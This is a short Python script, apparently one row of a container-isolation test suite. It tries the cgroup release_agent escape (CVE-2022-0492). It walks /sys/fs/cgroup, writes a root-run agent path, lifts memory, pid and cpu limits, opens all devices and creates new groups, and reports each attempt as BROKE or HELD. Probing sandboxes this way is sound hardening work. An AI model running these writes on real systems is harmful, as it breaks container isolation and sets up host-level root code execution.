"""Row 22. Lifts its own limits in /sys/fs/cgroup, and asks the kernel to run a program of its own as root (CVE-2022-0492)."""
import os

targets = {
    "release_agent": "/tmp/run-me-as-root", "notify_on_release": "1", "memory.limit_in_bytes": "-1", "memory.max": "max",
    "pids.max": "max", "cpu.max": "max", "cgroup.procs": "1", "devices.allow": "a",
}
tried = 0
for folder, folders, files in os.walk("/sys/fs/cgroup"):
    for name in files:
        if name not in targets:
            continue
        tried += 1
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(targets[name])
            print(f"BROKE: wrote {os.path.join(folder, name)}")
        except OSError as error:
            print(f"HELD:  {os.path.join(folder, name)}: {error.strerror}")
    try:
        os.mkdir(os.path.join(folder, "owned"))
        print(f"BROKE: made a group in {folder}")
    except OSError:
        pass
    if folder.count("/") > 5:
        folders.clear()
print(f"{tried} files tried" if tried else "HELD:  there is no control group to write to")
